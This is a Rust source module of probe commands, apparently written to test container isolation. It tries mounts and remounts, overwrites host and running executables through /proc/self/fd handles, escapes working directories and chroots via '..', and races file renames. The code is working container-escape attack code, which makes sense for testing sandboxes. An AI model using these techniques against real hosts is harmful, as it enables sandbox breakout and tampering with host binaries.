//! Commands that try to get out, or to reach what is the host's. Each says how far it came.

use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::names::outcome;
use crate::{say, sys};

/// Tries what a container without CAP_SYS_ADMIN must never manage, and what one with it may only do to itself.
pub fn mounts(_: &[String]) -> i32 {
    let _ = fs::create_dir("/tmp/attempt");
    let mut answers = Value::Object(Default::default());
    answers["tmpfs"] = outcome(sys::mount("tmpfs", "/tmp", "tmpfs", 0, "")).into();
    answers["bind"] = outcome(sys::mount("/bin", "/tmp", "", libc::MS_BIND, "")).into();
    answers["proc"] = outcome(sys::mount("proc", "/tmp", "proc", 0, "")).into();
    answers["remount /"] = outcome(sys::mount("", "/", "", libc::MS_REMOUNT | libc::MS_BIND, "")).into();
    answers["remount /proc/sys"] =
        outcome(sys::mount("", "/proc/sys", "", libc::MS_REMOUNT | libc::MS_BIND, "")).into();
    answers["unmount /proc/kcore"] = outcome(sys::unmount("/proc/kcore")).into();
    answers["unmount /proc"] = outcome(sys::unmount("/proc")).into();
    answers["unshare mount"] = outcome(sys::unshare(libc::CLONE_NEWNS)).into();
    say(answers);
    0
}

/// Writes over files that are none of its own, and says for each how it went.
pub fn overwrite(arguments: &[String]) -> i32 {
    let mut answers = Value::Object(Default::default());
    for path in arguments {
        // A running program is ETXTBSY until it ends, so the attack keeps a handle and comes back to it.
        let handle = fs::File::open(path);
        let again = handle.and_then(|handle| {
            let own = format!("/proc/self/fd/{}", handle.as_raw_fd());
            OpenOptions::new().write(true).truncate(true).open(own)
        });
        answers[path] = outcome(again.and_then(|mut file| file.write_all(b"owned"))).into();
    }
    say(answers);
    0
}

/// Lies in wait for processes that execute another file than the probe, keeps a handle to each such file, and
/// writes to it as soon as nobody executes it any more. Says what it wrote to; ends when killed.
pub fn steal(_: &[String]) -> i32 {
    let own = fs::read_link("/proc/self/exe").unwrap_or_default();
    let mut handles: Vec<(PathBuf, fs::File)> = Vec::new();
    let end = Instant::now() + Duration::from_secs(120);
    say("ready");
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let place = entry.path().join("exe");
            let target = fs::read_link(&place).unwrap_or_default();
            let news = target != PathBuf::new()
                && target != own
                && !handles.iter().any(|(known, _)| *known == target);
            if let (true, Ok(handle)) = (news, fs::File::open(&place)) {
                say(format_args!("holds {}", target.display()));
                handles.push((target, handle));
            }
        }
        for (target, handle) in &handles {
            let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(again)
                && file.write_all(b"owned").is_ok()
            {
                say(format_args!("overwrote {}", target.display()));
            }
        }
    }
    1
}

/// Climbs from the working directory and every descriptor as far as `..` leads, and says where `marker`, a file
/// of the host, was found.
pub fn escape_cwd(arguments: &[String]) -> i32 {
    let marker = arguments.first().map_or("", |marker| marker.trim_start_matches('/'));
    let mut starts = vec![".".to_string(), "/proc/self/cwd".to_string()];
    starts.extend((0..64).map(|fd| format!("/proc/self/fd/{fd}")));
    let found: Vec<String> = starts
        .iter()
        .flat_map(|start| (0..16).map(move |depth| format!("{start}/{}", "../".repeat(depth))))
        .filter(|place| fs::metadata(format!("{place}{marker}")).is_ok())
        .collect();
    say(json!(found));
    i32::from(!found.is_empty())
}

/// The old way out of a plain chroot: a second one, below the working directory, and then upwards from there.
pub fn escape_chroot(arguments: &[String]) -> i32 {
    let marker = arguments.first().map_or("", |marker| marker.trim_start_matches('/'));
    let _ = fs::create_dir("/tmp/deeper");
    let answer = std::os::unix::fs::chroot("/tmp/deeper");
    let found = fs::metadata(format!("{}{marker}", "../".repeat(32))).is_ok();
    say(json!({ "chroot": outcome(answer), "found": found }));
    i32::from(found)
}

/// Exchanges two names again and again, until nobody wants it any more: the race against whoever looks first
/// and acts later.
pub fn exchange(arguments: &[String]) -> i32 {
    let [one, other] = arguments else { return 2 };
    let end = Instant::now() + Duration::from_secs(120);
    say("ready");
    while Instant::now() < end && sys::exchange(one, other).is_ok() {}
    1
}
